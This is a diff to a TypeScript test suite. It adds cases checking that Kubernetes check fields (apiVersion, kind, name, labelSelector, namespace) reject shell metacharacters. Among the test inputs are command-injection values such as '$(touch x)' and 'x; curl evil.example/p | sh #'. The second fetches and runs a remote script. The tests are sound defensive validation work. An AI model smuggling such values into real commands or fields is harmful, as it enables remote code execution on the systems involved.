@@ -78,6 +78,22 @@ describe('Incident', () => {
       { verify: { checks: [{ name: 'c', kubernetes: { ...check.kubernetes, kind: 'Secret' } }] } },
       /may not read Secrets; choose another kind/,
     ],
+    ...Object.entries({
+      apiVersion: 'v1;x',
+      kind: 'ConfigMap $(touch x)',
+      name: 'x; curl evil.example/p | sh #',
+      labelSelector: "a='$(x)'",
+      namespace: 'a;b',
+    }).map(([field, value]): [string, object, RegExp] => [
+      `a check whose ${field} a shell could take for a command`,
+      { verify: { checks: [{ name: 'c', kubernetes: { ...check.kubernetes, name: undefined, [field]: value } }] } },
+      new RegExp(`checks\\[0\\]\\.kubernetes\\.${field}: .*should match`),
+    ]),
+    [
+      'a check of a subresource',
+      { verify: { checks: [{ name: 'c', kubernetes: { ...check.kubernetes, kind: 'Pod', name: 'x/log' } }] } },
+      /kubernetes\.name: .*should match/,
+    ],
     [
       'a check outside of the targets',
       {
@@ -266,6 +282,11 @@ describe('Monitor', () => {
       'a list and a name',
       { check: { kubernetes: { apiVersion: 'v1', kind: 'Pod', name: 'p', labelSelector: 'a=b', cel: 'true' } } },
       /labelSelector: not allowed together with name/,
+    ],
+    [
+      'a kind that a shell could take for a command',
+      { check: { kubernetes: { apiVersion: 'v1', kind: 'Pod;x', cel: 'true' } } },
+      /check\.kubernetes\.kind: .*should match/,
     ],
     [
       'Incidents whose soak does not end within their time limit',
